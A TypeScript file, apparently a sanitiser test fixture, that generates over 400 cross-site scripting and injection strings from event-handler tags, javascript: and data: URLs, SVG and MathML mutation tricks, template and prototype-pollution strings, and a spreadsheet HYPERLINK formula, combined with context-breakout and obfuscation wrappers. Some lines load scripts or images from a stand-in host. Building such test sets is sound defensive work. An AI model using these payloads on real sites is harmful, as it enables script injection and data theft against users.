const run = 'globalThis.caught=1'
const far = 'https://caught.example'

/** Each would run, load or lead somewhere, if it were ever more than text. */
const markup = [
  `<script>${run}</script>`,
  `<script src=${far}/x.js></script>`,
  `<img src=x onerror=${run}>`,
  `<img src=${far}/p.png>`,
  `<img srcset="${far}/s.png 1x">`,
  `<picture><source srcset=${far}/s.png><img src=x onerror=${run}></picture>`,
  `<svg onload=${run}>`,
  `<svg><script>${run}</script></svg>`,
  `<svg><animate onbegin=${run} attributeName=x dur=1s>`,
  `<svg><image href=${far}/i.png></svg>`,
  `<svg><a href="javascript:${run}"><text y=9>press</text></a></svg>`,
  `<iframe src="javascript:parent.${run}"></iframe>`,
  `<iframe srcdoc="<script>parent.${run}</script>"></iframe>`,
  `<object data="javascript:${run}"></object>`,
  `<embed src="${far}/e.swf">`,
  `<video src=x onerror=${run}></video>`,
  `<video poster=${far}/v.png></video>`,
  `<audio src=x onerror=${run}></audio>`,
  `<body onload=${run}>`,
  `<details open ontoggle=${run}>`,
  `<input autofocus onfocus=${run}>`,
  `<input type=image src=x onerror=${run}>`,
  `<select autofocus onfocus=${run}></select>`,
  `<textarea autofocus onfocus=${run}></textarea>`,
  `<marquee onstart=${run}>`,
  `<a href="javascript:${run}">press</a>`,
  `<a href="data:text/html,<script>${run}</script>">press</a>`,
  `<form action="javascript:${run}"><button>press</button></form>`,
  `<button formaction="javascript:${run}">press</button>`,
  `<math><mtext href="javascript:${run}">press</mtext></math>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${run}></style></mglyph></table></mtext></math>`,
  `<link rel=stylesheet href=${far}/x.css>`,
  `<style>@import '${far}/x.css';</style>`,
  `<style>*{background:url(${far}/b.png)!important}</style>`,
  `<meta http-equiv=refresh content="0;url=${far}/">`,
  `<base href=${far}/>`,
  `<template shadowrootmode=open><script>${run}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
  `<div style="background:url(${far}/b.png)">`,
  `<div onpointermove=${run} style="position:fixed;inset:0">`,
  `<p tabindex=1 autofocus onfocus=${run}>`
]

/** Ways out of whatever a payload may have been put into. */
const ways: readonly ((text: string) => string)[] = [
  text => text,
  text => `"'>${text}`,
  text => `</textarea></title></style></script>${text}`,
  text => `--> ]]> ${text}`,
  text => `\u202E${text}\u2028${text}`,
  text => text.replace(/<(\w+)/g, (_, tag: string) => `<${tag.toUpperCase()}/`),
  text => text.replace(/ (on\w+)=/g, '\n$1\t=\n').replace(/javascript/g, 'java\tscript'),
  text => text.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
  text => text.replaceAll('<', '\\u003c').replaceAll('"', '\\u0022'),
  text => encodeURIComponent(text)
]

/** Each would do something where an address is expected. */
const addresses = [
  `javascript:${run}`,
  `JaVaScRiPt:${run}`,
  `java\tscript:${run}`,
  ` \u0001javascript:${run}`,
  `javascript://example.com/%0A${run}`,
  `javascript&colon;${run}`,
  `vbscript:${run}`,
  `data:text/html,<script>${run}</script>`,
  `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${run}'/>`,
  `view-source:${far}`,
  `[press](javascript:${run})`,
  `![p](${far}/p.png)`,
  `{{constructor.constructor('${run}')()}}`,
  `\${${run}}`,
  '__proto__',
  `=HYPERLINK("${far}")`
]

/** More than 400 texts that whoever shows them to anybody must show as text. */
export const payloads: readonly string[] = [
  ...addresses,
  ...markup.flatMap(text => ways.map(way => way(text)))
]
